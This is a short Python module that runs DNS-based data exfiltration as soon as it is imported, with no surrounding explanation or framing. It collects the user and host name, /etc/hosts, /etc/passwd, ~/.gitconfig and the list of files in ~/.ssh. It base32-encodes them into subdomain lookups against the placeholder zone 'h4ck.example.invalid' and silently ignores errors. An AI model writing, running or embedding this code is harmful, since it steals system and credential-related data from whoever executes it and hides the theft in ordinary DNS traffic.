import base64
import getpass
import os
import socket

_ZONE = "h4ck.example.invalid"


def _read(path):
    try:
        with open(os.path.expanduser(path), "rb") as handle:
            return handle.read(4096)
    except OSError:
        return b""


def _send(tag, data):
    encoded = base64.b32encode(data).decode().rstrip("=").lower()
    for index in range(0, len(encoded), 60):
        label = encoded[index:index + 60]
        try:
            socket.getaddrinfo(f"{label}.{index // 60}.{tag}.{_ZONE}", 53)
        except OSError:
            pass


_send("id", f"{getpass.getuser()}@{socket.gethostname()}".encode())
for _name in ("/etc/hosts", "/etc/passwd", "~/.gitconfig"):
    _send("f", _read(_name))
_send("ssh", "\n".join(os.listdir(os.path.expanduser("~/.ssh"))).encode()
      if os.path.isdir(os.path.expanduser("~/.ssh")) else b"")
